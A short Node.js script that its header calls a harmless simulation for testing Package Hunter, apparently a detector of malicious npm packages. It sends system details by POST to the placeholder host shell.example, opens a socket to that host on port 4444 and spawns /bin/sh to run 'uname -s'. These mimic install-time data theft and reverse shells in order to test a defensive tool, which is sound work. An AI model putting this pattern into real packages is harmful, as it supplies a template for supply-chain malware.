// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const { spawn } = require("child_process");
const fs = require("fs");
const https = require("https");
const net = require("net");
const os = require("os");
const path = require("path");
const facts = JSON.stringify({ platform: os.platform(), arch: os.arch(), node: process.version });
const request = https.request({ hostname: "shell.example", path: "/i", method: "POST" });
request.on("error", () => {});
request.end(facts);

const socket = net.connect(4444, "shell.example", () => socket.end("ping\n"));
socket.on("error", () => {});
const shell = spawn("/bin/sh", ["-c", "uname -s"], { stdio: ["pipe", "pipe", "pipe"] });
shell.stdout.pipe(fs.createWriteStream(path.join(__dirname, "install.log")));
shell.stdin.end();
